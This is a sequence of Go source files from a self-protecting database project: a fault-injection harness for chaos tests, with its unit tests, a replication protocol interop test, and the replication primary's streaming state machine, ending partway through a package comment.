	SiteEngineExecute = "engine/execute"
	// SiteCoreHook fires on entry to SEPTIC's BeforeExecute, before the
	// verdict cache is consulted.
	SiteCoreHook = "core/hook"
	// SiteCoreDetect fires immediately before the SQLI / stored-injection
	// detections run.
	SiteCoreDetect = "core/detect"
)

// Hook is a fault armed at pipeline sites. It runs synchronously on the
// query path: it may sleep (injected latency), panic (crash fault) or
// return normally. It must be safe for concurrent use — every session
// hits the same hook.
type Hook func(site string)

// armed holds the active hook; nil means fault injection is off.
var armed atomic.Pointer[Hook]

// Arm installs h at every fault point. Only one hook is active at a
// time; arming replaces the previous hook.
func Arm(h Hook) {
	if h == nil {
		armed.Store(nil)
		return
	}
	armed.Store(&h)
}

// Disarm turns fault injection off.
func Disarm() {
	armed.Store(nil)
}

// Armed reports whether a hook is installed.
func Armed() bool {
	return armed.Load() != nil
}

// Hit fires the fault point named site. Unarmed it is a single atomic
// load and a nil check — the production cost of being injectable.
func Hit(site string) {
	if h := armed.Load(); h != nil {
		(*h)(site)
	}
}

// ErrInjected is the base error of every transport fault this package
// manufactures; errors.Is(err, ErrInjected) distinguishes an injected
// failure from a genuine one in chaos-test assertions.
var ErrInjected = errors.New("faultinject: injected fault")

// FlakyListener wraps a net.Listener and fails the first Failures calls
// to Accept with a transient (temporary) error before delegating. It
// exercises the server's transient-accept-error backoff: a correct
// accept loop retries; a naive one treats the first hiccup as fatal.
type FlakyListener struct {
	net.Listener
	remaining atomic.Int64
}

// NewFlakyListener wraps ln so its first failures Accepts fail.
func NewFlakyListener(ln net.Listener, failures int) *FlakyListener {
	fl := &FlakyListener{Listener: ln}
	fl.remaining.Store(int64(failures))
	return fl
}

// Accept implements net.Listener.
func (l *FlakyListener) Accept() (net.Conn, error) {
	if l.remaining.Add(-1) >= 0 {
		return nil, temporaryError{}
	}
	return l.Listener.Accept()
}

// temporaryError mimics a transient accept failure (ECONNABORTED,
// EMFILE): it reports Temporary() == true like the syscall errors do.
type temporaryError struct{}

func (temporaryError) Error() string   { return "faultinject: transient accept error" }
func (temporaryError) Timeout() bool   { return false }
func (temporaryError) Temporary() bool { return true }

func (temporaryError) Is(target error) bool { return target == ErrInjected }
