// Package faultinject is the repository's fault-injection harness: the
// controlled way to break the system on purpose so the chaos suite can
// assert that a self-protecting database degrades predictably. SEPTIC's
// whole premise is that protection lives inside the DBMS — which means a
// crash or hang in the protection path is itself a denial of service on
// every client. This package makes those faults reproducible.
//
// Three fault families are provided:
//
//   - Pipeline fault points: the query pipeline (engine stages, SEPTIC's
//     hook) calls Hit(site) at named sites. Unarmed, a hit is one atomic
//     pointer load — cheap enough to stay in the production hot path.
//     Tests Arm a Hook that sleeps, panics or fails at chosen sites.
//
//   - Transport faults: Conn wraps a net.Conn and injects latency, torn
//     frames, connection resets at byte offsets and byte corruption,
//     all driven by a deterministic seed so a failing chaos run replays
//     exactly. FlakyListener injects transient Accept errors.
//
//   - Kill points: the durability machinery (internal/wal, the core
//     checkpointer, Store.Save) hits named sites around every append,
//     fsync, rotation and atomic rename. A KillPoint hook panics with
//     the Crash sentinel mid-operation — simulating the process dying
//     with a torn frame or a half-finished snapshot on disk — and a
//     FailPoint ErrHook makes the same sites fail with an error
//     instead. The crash-chaos suite drives both.
package faultinject

import (
	"errors"
	"fmt"
	"net"
	"sync/atomic"
)

// Pipeline fault-point sites. The names are stable identifiers used by
// chaos tests to target one stage.
const (
	// SiteEngineParse fires before a statement is parsed.
	SiteEngineParse = "engine/parse"
	// SiteEngineValidate fires before catalog validation.
	SiteEngineValidate = "engine/validate"
	// SiteEngineHook fires before the security hook is invoked.
	SiteEngineHook = "engine/hook"
	// SiteEngineExecute fires before the executor runs the statement.
	SiteEngineExecute = "engine/execute"
	// SiteCoreHook fires on entry to SEPTIC's BeforeExecute, before the
	// verdict cache is consulted.
	SiteCoreHook = "core/hook"
	// SiteCoreDetect fires immediately before the SQLI / stored-injection
	// detections run.
	SiteCoreDetect = "core/detect"
)

// Durability fault-point sites: the kill points of the write-ahead log
// and checkpoint machinery (internal/wal, core.Persistence). A crash
// armed at any of these must leave the on-disk state recoverable — the
// crash-chaos suite kills a training replay here at random and asserts
// that no acknowledged update is lost and recovery converges.
const (
	// SiteWALAppend fires at the top of Log.Append, before any byte of
	// the frame is written.
	SiteWALAppend = "wal/append"
	// SiteWALShortWrite fires in the middle of a frame write — a crash
	// here leaves a torn frame on disk, the canonical power-loss tail.
	SiteWALShortWrite = "wal/append.short"
	// SiteWALFsync fires immediately before an fsync of the active
	// segment.
	SiteWALFsync = "wal/fsync"
	// SiteWALRotate fires at the start of segment rotation (seal + new
	// segment + directory fsync).
	SiteWALRotate = "wal/rotate"
	// SiteWALTrim fires before sealed segments are removed after a
	// checkpoint.
	SiteWALTrim = "wal/trim"
	// SiteAtomicWrite fires after the temp file of an atomic snapshot
	// write is written but before it is fsynced.
	SiteAtomicWrite = "wal/atomic.write"
	// SiteAtomicRename fires after the temp file is durable but before
	// it is renamed over the target.
	SiteAtomicRename = "wal/atomic.rename"
	// SiteCheckpoint fires at the start of a model-store checkpoint.
	SiteCheckpoint = "core/checkpoint"
	// SiteStoreSave fires inside Store.Save between serialization and
	// the atomic write.
	SiteStoreSave = "core/store.save"
)

// Replication fault-point sites: the kill points of a replica's apply
// path (core.ReplicaState). They are deliberately OUTSIDE KillSites():
// the replication chaos harness runs primary and replica in one process,
// so arming a shared wal/core site would also crash the primary's
// background goroutines uncontained. The repl sites fire only inside the
// replica's applier, whose session loop recovers Crash panics as a
// simulated replica death.
const (
	// SiteReplApply fires on entry to ReplicaState.ApplyRecord, before
	// the record is examined.
	SiteReplApply = "repl/apply"
	// SiteReplSnapshot fires on entry to ReplicaState.ApplySnapshot,
	// before the snapshot is decoded.
	SiteReplSnapshot = "repl/snapshot"
)

// KillSites lists every durability kill point, for harnesses that pick
// one at random.
func KillSites() []string {
	return []string{
		SiteWALAppend, SiteWALShortWrite, SiteWALFsync, SiteWALRotate,
		SiteWALTrim, SiteAtomicWrite, SiteAtomicRename, SiteCheckpoint,
		SiteStoreSave,
	}
}

// Crash is the panic value thrown by a kill-point hook: it simulates
// the process dying at the site — the harness recovers it at the replay
// boundary, abandons the half-written state exactly as a real crash
// would, and restarts from disk. Code on the panic path must never
// "clean up" durable state when unwinding a Crash; the whole point is
// that the bytes on disk stay as the crash left them.
type Crash struct{ Site string }

// Error makes Crash usable with recover-and-inspect helpers.
func (c Crash) Error() string { return "faultinject: killed at " + c.Site }

// IsCrash reports whether a recovered panic value is an injected kill.
func IsCrash(r any) bool {
	_, ok := r.(Crash)
	return ok
}

// KillPoint returns a Hook that panics with Crash{site} on the n-th hit
// of site (n = 1 kills the first hit). Other sites pass through
// unharmed, so one kill point can be armed while the rest of the
// pipeline runs normally.
func KillPoint(site string, n int64) Hook {
	var remaining atomic.Int64
	remaining.Store(n)
	return func(s string) {
		if s != site {
			return
		}
		if remaining.Add(-1) == 0 {
			panic(Crash{Site: site})
		}
	}
}

// Hook is a fault armed at pipeline sites. It runs synchronously on the
// query path: it may sleep (injected latency), panic (crash fault) or
// return normally. It must be safe for concurrent use — every session
// hits the same hook.
type Hook func(site string)

// armed holds the active hook; nil means fault injection is off.
var armed atomic.Pointer[Hook]

// Arm installs h at every fault point. Only one hook is active at a
// time; arming replaces the previous hook.
func Arm(h Hook) {
	if h == nil {
		armed.Store(nil)
		return
	}
	armed.Store(&h)
}

// Disarm turns fault injection off.
func Disarm() {
	armed.Store(nil)
}

// Armed reports whether a hook is installed.
func Armed() bool {
	return armed.Load() != nil
}

// Hit fires the fault point named site. Unarmed it is a single atomic
// load and a nil check — the production cost of being injectable.
func Hit(site string) {
	if h := armed.Load(); h != nil {
		(*h)(site)
	}
}

// ErrInjected is the base error of every transport fault this package
// manufactures; errors.Is(err, ErrInjected) distinguishes an injected
// failure from a genuine one in chaos-test assertions.
var ErrInjected = errors.New("faultinject: injected fault")

// ErrHook is an error-injecting fault armed at pipeline sites: unlike
// Hook it can make a site FAIL (an fsync returning EIO, a write running
// out of disk) rather than crash. A nil return passes the site through.
// It must be safe for concurrent use.
type ErrHook func(site string) error

// armedErr holds the active error hook; nil means off.
var armedErr atomic.Pointer[ErrHook]

// ArmErr installs h at every error-injection point, replacing any
// previous error hook.
func ArmErr(h ErrHook) {
	if h == nil {
		armedErr.Store(nil)
		return
	}
	armedErr.Store(&h)
}

// DisarmErr turns error injection off.
func DisarmErr() {
	armedErr.Store(nil)
}

// ErrArmed reports whether an error hook is installed.
func ErrArmed() bool {
	return armedErr.Load() != nil
}

// HitErr fires the error-injection point named site. Unarmed it is a
// single atomic load and a nil check.
func HitErr(site string) error {
	if h := armedErr.Load(); h != nil {
		return (*h)(site)
	}
	return nil
}

// FailPoint returns an ErrHook that fails the n-th hit of site with an
// error wrapping ErrInjected; every other hit and site passes.
func FailPoint(site string, n int64) ErrHook {
	var remaining atomic.Int64
	remaining.Store(n)
	return func(s string) error {
		if s != site {
			return nil
		}
		if remaining.Add(-1) == 0 {
			return fmt.Errorf("%w at %s", ErrInjected, site)
		}
		return nil
	}
}

// FlakyListener wraps a net.Listener and fails the first Failures calls
// to Accept with a transient (temporary) error before delegating. It
// exercises the server's transient-accept-error backoff: a correct
// accept loop retries; a naive one treats the first hiccup as fatal.
type FlakyListener struct {
	net.Listener
	remaining atomic.Int64
}

// NewFlakyListener wraps ln so its first failures Accepts fail.
func NewFlakyListener(ln net.Listener, failures int) *FlakyListener {
	fl := &FlakyListener{Listener: ln}
	fl.remaining.Store(int64(failures))
	return fl
}

// Accept implements net.Listener.
func (l *FlakyListener) Accept() (net.Conn, error) {
	if l.remaining.Add(-1) >= 0 {
		return nil, temporaryError{}
	}
	return l.Listener.Accept()
}

// temporaryError mimics a transient accept failure (ECONNABORTED,
// EMFILE): it reports Temporary() == true like the syscall errors do.
type temporaryError struct{}

func (temporaryError) Error() string   { return "faultinject: transient accept error" }
func (temporaryError) Timeout() bool   { return false }
func (temporaryError) Temporary() bool { return true }

func (temporaryError) Is(target error) bool { return target == ErrInjected }
