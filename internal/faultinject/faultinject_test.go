package faultinject

import (
	"errors"
	"io"
	"net"
	"sync"
	"testing"
	"time"
)

func TestHitUnarmedIsNoOp(t *testing.T) {
	Disarm()
	Hit(SiteCoreHook) // must not panic or block
	if Armed() {
		t.Fatal("Armed() = true with no hook installed")
	}
}

func TestArmAndDisarm(t *testing.T) {
	var mu sync.Mutex
	var sites []string
	Arm(func(site string) {
		mu.Lock()
		sites = append(sites, site)
		mu.Unlock()
	})
	defer Disarm()
	if !Armed() {
		t.Fatal("Armed() = false after Arm")
	}
	Hit(SiteEngineParse)
	Hit(SiteCoreDetect)
	Disarm()
	Hit(SiteEngineExecute) // not recorded
	mu.Lock()
	defer mu.Unlock()
	if len(sites) != 2 || sites[0] != SiteEngineParse || sites[1] != SiteCoreDetect {
		t.Fatalf("sites = %v", sites)
	}
}

// pipePair builds a TCP loopback pair so linger/reset semantics are the
// real kernel's, not net.Pipe's.
func pipePair(t *testing.T) (client, server net.Conn) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	done := make(chan struct{})
	go func() {
		defer close(done)
		c, err := ln.Accept()
		if err != nil {
			return
		}
		server = c
	}()
	client, err = net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	<-done
	if server == nil {
		t.Fatal("accept failed")
	}
	t.Cleanup(func() { client.Close(); server.Close() })
	return client, server
}

func TestConnTearWrite(t *testing.T) {
	client, server := pipePair(t)
	fc := WrapConn(client, Plan{TearWriteAt: 4})

	n, err := fc.Write([]byte("0123456789"))
	if n != 4 {
		t.Fatalf("torn write wrote %d bytes, want 4", n)
	}
	if !errors.Is(err, ErrInjected) {
		t.Fatalf("err = %v, want ErrInjected", err)
	}
	// Later writes fail too: the connection stays torn.
	if _, err := fc.Write([]byte("x")); !errors.Is(err, ErrInjected) {
		t.Fatalf("post-tear write err = %v", err)
	}
	// The peer received exactly the prefix and the conn is still open:
	// a read with a short deadline times out instead of seeing EOF.
	buf := make([]byte, 16)
	if _, err := io.ReadFull(server, buf[:4]); err != nil {
		t.Fatalf("peer read: %v", err)
	}
	_ = server.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
	if _, err := server.Read(buf); err == nil || errors.Is(err, io.EOF) {
		t.Fatalf("peer read after tear = %v, want timeout (conn held open)", err)
	}
}

func TestConnResetWrite(t *testing.T) {
	client, server := pipePair(t)
	fc := WrapConn(client, Plan{ResetWriteAt: 4})
	if _, err := fc.Write([]byte("0123456789")); !errors.Is(err, ErrInjected) {
		t.Fatalf("err = %v, want ErrInjected", err)
	}
	// The peer eventually observes the closed connection.
	_ = server.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 16)
	for {
		if _, err := server.Read(buf); err != nil {
			return // EOF or RST, either proves the close reached the peer
		}
	}
}

func TestConnResetRead(t *testing.T) {
	client, server := pipePair(t)
	fc := WrapConn(client, Plan{ResetReadAt: 4})
	if _, err := server.Write([]byte("0123456789")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 10)
	total := 0
	var lastErr error
	for total < 10 {
		n, err := fc.Read(buf[total:])
		total += n
		if err != nil {
			lastErr = err
			break
		}
	}
	if !errors.Is(lastErr, ErrInjected) {
		t.Fatalf("read err = %v (got %d bytes), want ErrInjected", lastErr, total)
	}
	if total > 4 {
		t.Fatalf("read %d bytes past the reset offset 4", total)
	}
}

func TestConnCorruptWrite(t *testing.T) {
	client, server := pipePair(t)
	fc := WrapConn(client, Plan{CorruptWriteAt: 3, CorruptXOR: 0x20})
	if _, err := fc.Write([]byte("abcdef")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 6)
	if _, err := io.ReadFull(server, buf); err != nil {
		t.Fatal(err)
	}
	if string(buf) != "abCdef" { // 'c' ^ 0x20 = 'C'
		t.Fatalf("peer received %q, want corruption at byte 3", buf)
	}
}

func TestConnLatencyDeterministicJitter(t *testing.T) {
	delays := func(seed uint64) []uint64 {
		c := &Conn{plan: Plan{LatencyJitter: time.Second}, rng: seed}
		out := make([]uint64, 8)
		for i := range out {
			out[i] = c.next() % uint64(time.Second)
		}
		return out
	}
	a, b := delays(42), delays(42)
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("same seed diverged at %d: %d vs %d", i, a[i], b[i])
		}
	}
	c := delays(43)
	same := true
	for i := range a {
		if a[i] != c[i] {
			same = false
		}
	}
	if same {
		t.Fatal("different seeds produced identical jitter")
	}
}

func TestConnInjectsLatency(t *testing.T) {
	client, server := pipePair(t)
	fc := WrapConn(client, Plan{WriteLatency: 30 * time.Millisecond})
	start := time.Now()
	if _, err := fc.Write([]byte("x")); err != nil {
		t.Fatal(err)
	}
	if elapsed := time.Since(start); elapsed < 25*time.Millisecond {
		t.Fatalf("write took %v, want ≥30ms of injected latency", elapsed)
	}
	_ = server
}

func TestFlakyListenerFailsThenRecovers(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	fl := NewFlakyListener(ln, 2)
	for i := 0; i < 2; i++ {
		_, err := fl.Accept()
		if err == nil {
			t.Fatalf("accept %d succeeded, want injected failure", i)
		}
		var ne net.Error
		if !errors.As(err, &ne) || !ne.Temporary() {
			t.Fatalf("accept %d err = %v, want temporary net.Error", i, err)
		}
	}
	go func() {
		conn, err := net.Dial("tcp", ln.Addr().String())
		if err == nil {
			conn.Close()
		}
	}()
	conn, err := fl.Accept()
	if err != nil {
		t.Fatalf("accept after failures: %v", err)
	}
	conn.Close()
}
