package repl

import (
	"errors"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/wire"
)

// startWireServer boots a plain wire server (the query endpoint, not a
// dedicated replication listener) with the given options.
func startWireServer(t *testing.T, opts ...wire.ServerOption) string {
	t.Helper()
	srv := wire.NewServer(engine.New(), opts...)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	return addr
}

// TestProtocolInteropMatrixRepl extends the wire interop matrix with
// the replica↔primary rows: a v2 replica against every flavour of
// server it can be pointed at. The failure rows must end in the typed
// ErrUnsupported quickly — a replica aimed at a server that cannot
// serve replication fails loudly, it never hangs and never spins on
// reconnect.
func TestProtocolInteropMatrixRepl(t *testing.T) {
	sep, persist := newPrimary(t, t.TempDir())
	d, _ := sep.Domain("shop")
	d.Store().Put("iq1", modelFor(t, "SELECT a FROM t WHERE b = 1"), false)

	cases := []struct {
		name string
		addr func(t *testing.T) string
		ok   bool
	}{
		{
			// The happy row: a wire server with replication enabled hands
			// the connection to the primary after the HELLO.
			name: "v2replica_v2server_repl",
			addr: func(t *testing.T) string {
				p := NewPrimary(persist, PrimaryOptions{HeartbeatInterval: 20 * time.Millisecond})
				t.Cleanup(p.Close)
				return startWireServer(t, wire.WithReplHandler(p.HandleConn))
			},
			ok: true,
		},
		{
			// A current server WITHOUT replication enabled refuses with a
			// clean typed error.
			name: "v2replica_v2server_noRepl",
			addr: func(t *testing.T) string { return startWireServer(t) },
		},
		{
			// A v1-only server cannot speak the replication stream at all;
			// the version refusal must surface, not a hang.
			name: "v2replica_v1server",
			addr: func(t *testing.T) string {
				return startWireServer(t, wire.WithHelloVersionLimit(1))
			},
		},
		{
			// A v1-only server with a repl handler configured still refuses:
			// the stream rides protocol v2 frames.
			name: "v2replica_v1server_repl",
			addr: func(t *testing.T) string {
				p := NewPrimary(persist, PrimaryOptions{HeartbeatInterval: 20 * time.Millisecond})
				t.Cleanup(p.Close)
				return startWireServer(t,
					wire.WithHelloVersionLimit(1), wire.WithReplHandler(p.HandleConn))
			},
		},
		{
			// The dedicated replication listener (septicd -repl-listen).
			name: "v2replica_dedicated_primary",
			addr: func(t *testing.T) string {
				addr, _ := servePrimary(t, persist, PrimaryOptions{})
				return addr
			},
			ok: true,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			snapshotGoroutines(t)
			addr := tc.addr(t)
			rsep, rs := newReplicaSeptic(t, "")
			r := NewReplica(addr, rs, fastReplicaOptions())
			r.Start()
			t.Cleanup(r.Close)

			if tc.ok {
				waitApplied(t, rs, persist.ReplLastSeq())
				assertStoresIdentical(t, sep, rsep)
				if err := r.Err(); err != nil {
					t.Fatalf("healthy session reported %v", err)
				}
				return
			}
			select {
			case <-r.Done():
			case <-time.After(5 * time.Second):
				t.Fatal("refused replica still running after 5s (hang, not a typed failure)")
			}
			if err := r.Err(); !errors.Is(err, ErrUnsupported) {
				t.Fatalf("refusal error %v, want ErrUnsupported", err)
			}
			if rs.AppliedSeq() != 0 {
				t.Fatalf("refused replica applied %d records", rs.AppliedSeq())
			}
		})
	}
}
