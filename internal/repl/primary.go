package repl

import (
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/wal"
	"github.com/septic-db/septic/internal/wire"
)

// Source is what a primary streams: the replication face of
// core.Persistence. The four methods compose into the no-gap protocol —
// ReplWatch BEFORE ReplReadFrom, so no record can land between the
// catch-up read and the tail subscription.
type Source interface {
	// ReplSnapshot captures a full-state snapshot and the WAL sequence
	// barrier it covers.
	ReplSnapshot() (barrier uint64, data []byte, err error)
	// ReplReadFrom reads records with sequence > after, up to ~maxBytes.
	// A result that does not start at after+1 means the prefix was
	// trimmed — the session falls back to a snapshot.
	ReplReadFrom(after uint64, maxBytes int) ([]wal.Record, error)
	// ReplWatch subscribes to the live tail.
	ReplWatch(buf int) *wal.Watcher
	// ReplLastSeq is the stream head.
	ReplLastSeq() uint64
}

// PrimaryOptions tunes a replication primary.
type PrimaryOptions struct {
	// HeartbeatInterval paces tail heartbeats (default 500ms).
	HeartbeatInterval time.Duration
	// BatchBytes bounds one catch-up read (default
	// wal.DefaultReadBatchBytes).
	BatchBytes int
	// SubscribeTimeout bounds the wait for the subscribe frame after the
	// handshake (default 10s).
	SubscribeTimeout time.Duration
	// WatchBuffer is the tail subscription's channel depth (default
	// 1024); a replica that falls further behind than this is sent back
	// through catch-up reads.
	WatchBuffer int
}

func (o *PrimaryOptions) fill() {
	if o.HeartbeatInterval <= 0 {
		o.HeartbeatInterval = 500 * time.Millisecond
	}
	if o.BatchBytes <= 0 {
		o.BatchBytes = wal.DefaultReadBatchBytes
	}
	if o.SubscribeTimeout <= 0 {
		o.SubscribeTimeout = 10 * time.Second
	}
	if o.WatchBuffer <= 0 {
		o.WatchBuffer = 1024
	}
}

// PrimaryStats snapshots a primary's serving counters.
type PrimaryStats struct {
	// Sessions counts replication sessions accepted (lifetime).
	Sessions int64
	// SnapshotsSent counts full snapshot transfers.
	SnapshotsSent int64
	// RecordsSent counts records shipped in batches.
	RecordsSent int64
	// BytesSent counts frame payload bytes shipped.
	BytesSent int64
}

// Primary serves a Source's WAL as a replication stream. Hand its
// HandleConn to wire.WithReplHandler to share the query port, or give
// it a dedicated listener with Serve — both paths speak the same JSON
// HELLO first, so a replica cannot tell them apart.
type Primary struct {
	src  Source
	opts PrimaryOptions

	mu     sync.Mutex
	conns  map[net.Conn]struct{}
	closed bool

	sessions      atomic.Int64
	snapshotsSent atomic.Int64
	recordsSent   atomic.Int64
	bytesSent     atomic.Int64
}

// NewPrimary builds a replication primary over src.
func NewPrimary(src Source, opts PrimaryOptions) *Primary {
	opts.fill()
	return &Primary{src: src, opts: opts, conns: make(map[net.Conn]struct{})}
}

// Stats snapshots the serving counters.
func (p *Primary) Stats() PrimaryStats {
	return PrimaryStats{
		Sessions:      p.sessions.Load(),
		SnapshotsSent: p.snapshotsSent.Load(),
		RecordsSent:   p.recordsSent.Load(),
		BytesSent:     p.bytesSent.Load(),
	}
}

// Close terminates every active session. New sessions are refused.
func (p *Primary) Close() {
	p.mu.Lock()
	p.closed = true
	for c := range p.conns {
		_ = c.Close()
	}
	p.mu.Unlock()
}

// track registers a session connection so Close can cut it; reports
// false when the primary is already closed.
func (p *Primary) track(conn net.Conn) bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.closed {
		return false
	}
	p.conns[conn] = struct{}{}
	return true
}

func (p *Primary) untrack(conn net.Conn) {
	p.mu.Lock()
	delete(p.conns, conn)
	p.mu.Unlock()
}

// Serve accepts replication sessions on a dedicated listener: each
// connection performs the JSON HELLO handshake (the same exchange the
// shared query port runs) and streams until the peer disconnects or the
// primary closes. It returns when ln fails, which Close arranges by
// closing ln's accepted conns — close the listener itself to stop
// accepting.
func (p *Primary) Serve(ln net.Listener) error {
	for {
		conn, err := ln.Accept()
		if err != nil {
			if ne, ok := err.(net.Error); ok && ne.Temporary() {
				time.Sleep(5 * time.Millisecond)
				continue
			}
			return err
		}
		go func() {
			defer conn.Close()
			if err := p.handshake(conn); err != nil {
				return
			}
			p.HandleConn(conn)
		}()
	}
}

// handshake runs the server side of the JSON HELLO exchange on a
// dedicated replication listener, mirroring the shared port's refusal
// behaviour (wire.Server.handleReplHello).
func (p *Primary) handshake(conn net.Conn) error {
	_ = conn.SetDeadline(time.Now().Add(p.opts.SubscribeTimeout))
	defer conn.SetDeadline(time.Time{})
	var req wire.Request
	if err := wire.ReadJSONFrame(conn, &req); err != nil {
		return err
	}
	var resp wire.Response
	switch {
	case req.Hello == nil || !req.Hello.Repl:
		resp.Error = "replication listener accepts only replication hellos"
		resp.Hello = &wire.HelloAck{Version: wire.HelloVersion}
	case req.Hello.Version < wire.HelloVersion:
		resp.Error = fmt.Sprintf("replication requires protocol version %d (hello declared %d)",
			wire.HelloVersion, req.Hello.Version)
		resp.Hello = &wire.HelloAck{Version: wire.HelloVersion}
	default:
		resp.Hello = &wire.HelloAck{Version: wire.HelloVersion, Repl: true}
	}
	if err := wire.WriteJSONFrame(conn, &resp); err != nil {
		return err
	}
	if resp.Error != "" {
		return errors.New(resp.Error)
	}
	return nil
}

// HandleConn serves one replication session on an accepted, handshaken
// connection. It blocks until the session ends and never closes conn —
// ownership stays with the caller (wire.Server's serveConn, or Serve's
// per-connection goroutine).
func (p *Primary) HandleConn(conn net.Conn) {
	if !p.track(conn) {
		return
	}
	defer p.untrack(conn)
	p.sessions.Add(1)
	if err := p.serveSession(conn); err != nil && !isDisconnect(err) {
		// Best-effort: tell the replica why before the conn drops.
		_ = p.send(conn, appendError(nil, err.Error()))
	}
}

// send writes one frame payload, counting the bytes.
func (p *Primary) send(conn net.Conn, payload []byte) error {
	if err := writeFrame(conn, payload); err != nil {
		return err
	}
	p.bytesSent.Add(int64(len(payload)))
	return nil
}

// serveSession is the streaming state machine: subscribe → (snapshot if
// the resume position is unserviceable) → catch-up batches → live tail,
// falling back to catch-up whenever the tail subscription gaps or lags.
func (p *Primary) serveSession(conn net.Conn) error {
	// The subscribe frame is the only thing the replica ever sends after
	// the handshake.
	_ = conn.SetReadDeadline(time.Now().Add(p.opts.SubscribeTimeout))
	payload, err := readFrame(conn, nil)
	if err != nil {
		return fmt.Errorf("read subscribe: %w", err)
	}
	_ = conn.SetReadDeadline(time.Time{})
	f, err := decodeFrame(payload)
	if err != nil {
		return err
	}
	if f.typ != frameSubscribe {
		return fmt.Errorf("expected subscribe frame, got 0x%02x", f.typ)
	}
	applied := f.after

	// Subscribe to the tail BEFORE the catch-up read: a record appended
	// between the two lands in the watcher buffer, so nothing can fall
	// through the seam.
	w := p.src.ReplWatch(p.opts.WatchBuffer)
	if w == nil {
		return fmt.Errorf("source log closed")
	}
	defer w.Close()

	// A session must notice the replica hanging up even while idle in
	// the tail select: a reader goroutine drains the conn (the replica
	// sends nothing after subscribe, so any read completion means EOF or
	// an error) and signals done.
	connDone := make(chan struct{})
	go func() {
		defer close(connDone)
		_, _ = io.Copy(io.Discard, conn)
	}()

	hb := time.NewTicker(p.opts.HeartbeatInterval)
	defer hb.Stop()

	var buf []byte
	for {
		// Catch-up phase: read the log until the replica is at the head.
		for {
			select {
			case <-connDone:
				return nil
			default:
			}
			recs, err := p.src.ReplReadFrom(applied, p.opts.BatchBytes)
			if err != nil {
				return fmt.Errorf("read wal: %w", err)
			}
			head := p.src.ReplLastSeq()
			needSnapshot := false
			if len(recs) == 0 {
				if applied == head {
					break // caught up
				}
				// Behind the head but nothing readable (trimmed), or ahead
				// of the head entirely (the replica followed a primary
				// whose history this one does not have): both are resolved
				// by a fresh snapshot — the primary's state is
				// authoritative.
				needSnapshot = true
			} else if recs[0].Seq != applied+1 {
				// The tail after `applied` was checkpointed away.
				needSnapshot = true
			}
			if needSnapshot {
				barrier, err := p.sendSnapshot(conn)
				if err != nil {
					return err
				}
				applied = barrier
				continue
			}
			if err := p.sendBatch(conn, &buf, recs); err != nil {
				return err
			}
			applied = recs[len(recs)-1].Seq
		}

		// Tail phase: relay the live watcher, coalescing what is already
		// buffered into one batch per wakeup.
	tail:
		for {
			select {
			case <-connDone:
				return nil
			case <-hb.C:
				if err := p.send(conn, appendHeartbeat(buf[:0], p.src.ReplLastSeq())); err != nil {
					return err
				}
			case rec, ok := <-w.C():
				if !ok {
					return fmt.Errorf("source log closed")
				}
				if w.Lagged() {
					break tail // buffer overflowed: records were dropped, re-read the log
				}
				if rec.Seq <= applied {
					continue // already shipped by a catch-up read
				}
				if rec.Seq != applied+1 {
					break tail // gap: missed while catching up, re-read
				}
				recs := []wal.Record{rec}
				size := len(rec.Data)
				gapped := false
			coalesce:
				for size < p.opts.BatchBytes {
					select {
					case more, ok := <-w.C():
						if !ok {
							break coalesce
						}
						last := recs[len(recs)-1].Seq
						if more.Seq <= last {
							continue
						}
						if more.Seq != last+1 {
							// Gap inside the drain: ship the contiguous run,
							// then fall back to catch-up — the consumed
							// record is still in the log.
							gapped = true
							break coalesce
						}
						recs = append(recs, more)
						size += len(more.Data)
					default:
						break coalesce
					}
				}
				if err := p.sendBatch(conn, &buf, recs); err != nil {
					return err
				}
				applied = recs[len(recs)-1].Seq
				if gapped || w.Lagged() {
					break tail
				}
			}
		}
	}
}

// sendSnapshot streams one full snapshot and returns its barrier.
func (p *Primary) sendSnapshot(conn net.Conn) (uint64, error) {
	barrier, data, err := p.src.ReplSnapshot()
	if err != nil {
		return 0, fmt.Errorf("snapshot: %w", err)
	}
	if err := p.send(conn, appendSnapBegin(nil, barrier, len(data))); err != nil {
		return 0, err
	}
	for off := 0; off < len(data); off += snapChunkSize {
		end := off + snapChunkSize
		if end > len(data) {
			end = len(data)
		}
		if err := p.send(conn, appendSnapChunk(nil, data[off:end])); err != nil {
			return 0, err
		}
	}
	if err := p.send(conn, appendSnapEnd(nil, crc32.Checksum(data, castagnoli))); err != nil {
		return 0, err
	}
	p.snapshotsSent.Add(1)
	return barrier, nil
}

// sendBatch ships one record batch, reusing *buf for the encoding.
func (p *Primary) sendBatch(conn net.Conn, buf *[]byte, recs []wal.Record) error {
	rs := make([]record, len(recs))
	for i, r := range recs {
		rs[i] = record{seq: r.Seq, data: r.Data}
	}
	*buf = appendBatch((*buf)[:0], rs)
	if err := p.send(conn, *buf); err != nil {
		return err
	}
	p.recordsSent.Add(int64(len(recs)))
	return nil
}

// isDisconnect reports whether err is the peer going away (no point
// sending an error frame after it).
func isDisconnect(err error) bool {
	if errors.Is(err, io.EOF) || errors.Is(err, net.ErrClosed) {
		return true
	}
	var ne net.Error
	return errors.As(err, &ne)
}
