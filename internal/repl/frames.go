// Package repl implements WAL-shipped model replication: a primary
// serves its write-ahead log as a replication stream — checkpoint
// snapshot, sequence-addressed catch-up batches, then the live tail —
// and a replica applies it into its protection domains through the same
// replay paths boot recovery uses (core.ReplicaState), serving
// detection-mode reads the whole time.
//
// A session begins with the ordinary JSON HELLO handshake (wire.Hello
